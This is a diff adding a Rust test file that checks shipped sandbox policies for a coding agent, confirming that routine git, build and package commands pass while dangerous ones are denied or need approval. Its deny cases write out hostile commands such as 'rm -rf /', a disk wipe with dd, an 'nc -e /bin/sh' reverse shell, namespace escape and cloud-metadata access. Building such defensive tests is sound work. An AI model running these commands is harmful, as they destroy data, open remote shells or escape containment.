@@ -1,0 +1,246 @@
+//! The policies that the project ships: they can be read without a warning, the tables hold them, every
+//! example holds, and they decide as their README says.
+
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use enforcer::decide::{ConnectAction, Decision, Engine, ExecAction, RuleCheck};
+use enforcer::policy::{Parsed, parse_all, validate::example_words};
+
+fn repository() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
+}
+
+fn read(path: &Path) -> Parsed {
+    let text = std::fs::read_to_string(path).unwrap();
+    parse_all(&text).unwrap_or_else(|errors| panic!("{}: {errors:?}", path.display()))
+}
+
+fn shipped(name: &str) -> Parsed {
+    read(&repository().join("policies").join(name))
+}
+
+fn action(words: &[String]) -> ExecAction {
+    ExecAction::from_words(words.iter().map(|word| word.clone().into_bytes()).collect())
+}
+
+fn line(text: &str) -> ExecAction {
+    action(&shlex::split(text).unwrap())
+}
+
+/// Every rule has what a reader needs, and matches its own examples and none of the others.
+fn examples_hold(name: &str) {
+    let parsed = shipped(name);
+    assert_eq!(parsed.warnings, [], "{name}");
+    let exec = &parsed.policy.exec;
+    assert!(exec.rules.len() > 40, "{name} has lost its rules");
+    for rule in &exec.rules {
+        let id = &rule.id;
+        assert!(rule.justification.is_some(), "{name}: {id} says no reason");
+        assert!(
+            rule.decision == Decision::Allow || rule.suggestion.is_some(),
+            "{name}: {id} says no way out"
+        );
+        assert!(
+            !rule.examples.is_empty() && !rule.counter_examples.is_empty(),
+            "{name}: {id} lacks examples on one side"
+        );
+        let check = RuleCheck::new(rule, &exec.trusted_dirs).unwrap();
+        for (examples, wanted) in [(&rule.examples, true), (&rule.counter_examples, false)] {
+            for example in examples {
+                let words = example_words(example).unwrap();
+                assert_eq!(
+                    check.matches(&action(&words)),
+                    wanted,
+                    "{name}: {id}: {words:?}"
+                );
+            }
+        }
+    }
+}
+
+/// `coding-agent.json` as it is enforced; compiled once, because that takes seconds without optimisation.
+fn coding_agent() -> &'static Engine {
+    static ENGINE: OnceLock<Engine> = OnceLock::new();
+    ENGINE.get_or_init(|| Engine::new(shipped("coding-agent.json").policy, 1).unwrap())
+}
+
+fn decides(engine: &Engine, wanted: Decision, commands: &[&str]) {
+    for command in commands {
+        let outcome = engine.exec(&line(command));
+        assert_eq!(outcome.decision, wanted, "{command}: {outcome:?}");
+    }
+}
+
+fn connects(engine: &Engine, wanted: Decision, addresses: &[&str]) {
+    for address in addresses {
+        let outcome = engine.connect(&ConnectAction::new(address.parse().unwrap(), 443, 6));
+        assert_eq!(outcome.decision, wanted, "{address}: {outcome:?}");
+    }
+}
+
+#[test]
+fn the_examples_of_coding_agent_hold() {
+    examples_hold("coding-agent.json");
+}
+
+#[test]
+fn the_examples_of_strict_hold() {
+    examples_hold("strict.json");
+}
+
+/// What git, pip and the like start by themselves must pass, though it looks like what is denied.
+#[test]
+fn coding_agent_leaves_ordinary_development_alone() {
+    let engine = coding_agent();
+    decides(
+        engine,
+        Decision::Allow,
+        &[
+            "git commit -m 'rm -rf / && sudo reboot'",
+            "git push --force-with-lease origin fix",
+            "git rebase -i main",
+            // git stash, git worktree add, git submodule update, git gc
+            "/usr/lib/git-core/git reset --hard -q --no-recurse-submodules",
+            "/usr/lib/git-core/git clean --force --quiet -d :/",
+            "git reset --hard --no-recurse-submodules",
+            "git checkout -q -f 0123456789abcdef",
+            "git reflog expire --all",
+            "git prune --expire 2.weeks.ago",
+            "ssh -o SendEnv=GIT_PROTOCOL git@example.org \"git-upload-pack 'a/b.git'\"",
+            "cargo test --workspace",
+            "npm ci",
+            "npm run build",
+            "pip install -e .",
+            "python3 -m pytest -q",
+            "make -j8 install DESTDIR=/tmp/x",
+            "cmake --build build --target clean",
+            "gcc -O2 -o a a.c",
+            "apt list --installed",
+            "docker build -t x .",
+            "docker compose up -d",
+            "find . -name '*.rs' -exec grep -l x {} +",
+            "xargs -0 -n 50 wc -l",
+            "sed -i s/a/b/ src/x.rs",
+            "tar -czf x.tgz dist",
+            "curl -sSfL https://example.org/x.json -o x.json",
+            "rm -rf ./build target/debug node_modules /tmp/x",
+            "chmod -R u+w vendor",
+            "kill -9 4242",
+            "bash -c 'sudo rm -rf /'",
+        ],
+    );
+}
+
+#[test]
+fn coding_agent_stops_what_destroys_or_escapes() {
+    let engine = coding_agent();
+    decides(
+        engine,
+        Decision::Deny,
+        &[
+            "rm -rf /",
+            "/bin/rm -rf --no-preserve-root /",
+            "sudo -n true",
+            "/tmp/renamed/sudo id",
+            "mkfs.ext4 --version",
+            "dd if=/dev/zero of=/dev/sda",
+            "nsenter -t 1 -a",
+            "crontab jobs",
+            "busybox sh",
+            "nc -e /bin/sh host 1",
+            "docker run --privileged x",
+            "/lib64/ld-linux-x86-64.so.2 /usr/bin/id",
+        ],
+    );
+    decides(
+        engine,
+        Decision::Ask,
+        &[
+            "git push -f",
+            "git reset --hard",
+            "ssh host",
+            "npm publish",
+            "terraform destroy",
+        ],
+    );
+    let asked = engine.exec(&line("git push -f")).reason;
+    assert!(asked.contains("approval is needed"), "{asked}");
+    connects(
+        engine,
+        Decision::Deny,
+        &["169.254.169.254", "fd00:ec2::254", "fe80::1"],
+    );
+    connects(
+        engine,
+        Decision::Allow,
+        &["127.0.0.1", "192.0.2.1", "2001:db8::1"],
+    );
+}
+
+#[test]
+fn strict_allows_a_toolchain_and_nothing_else() {
+    let engine = Engine::new(shipped("strict.json").policy, 1).unwrap();
+    decides(
+        &engine,
+        Decision::Allow,
+        &[
+            "git status",
+            "git stash",
+            "/usr/lib/git-core/git rev-list --all",
+            "/usr/lib/gcc/x86_64-linux-gnu/14/cc1 -quiet x.c",
+            "cargo build",
+            "python3 x.py",
+            "npm test",
+            "bash build.sh",
+            "make -j4",
+            "./configure",
+        ],
+    );
+    decides(
+        &engine,
+        Decision::Deny,
+        &[
+            "git push",
+            "git -C x remote set-url origin y",
+            "curl https://example.org",
+            "ssh host",
+            "perl -e 1",
+            "docker ps",
+            "/tmp/git status",
+            "./git/../../tmp/evil",
+            "/usr/lib/gcc/../../../tmp/evil",
+            "sudo ls",
+        ],
+    );
+    connects(
+        &engine,
+        Decision::Allow,
+        &["127.0.0.1", "127.9.9.9", "::1", "0.0.0.0"],
+    );
+    connects(
+        &engine,
+        Decision::Deny,
+        &["192.0.2.1", "10.0.0.1", "2001:db8::1", "169.254.169.254"],
+    );
+}
+
+/// A real hook policy, where it lies beside the repository: every pattern is in the tables.
+#[test]
+fn a_hook_policy_compiles() {
+    let path = repository().join("../shared/fixtures/hook_policy.json");
+    if !path.is_file() {
+        return;
+    }
+    let engine = Engine::new(read(&path).policy, 1).unwrap();
+    decides(
+        &engine,
+        Decision::Allow,
+        &["git status", "ls -la", "bash -c x"],
+    );
+    decides(
+        &engine,
+        Decision::Deny,
+        &["sudo ls", "rm -rf /etc", "perl -e 1"],
+    );
+}
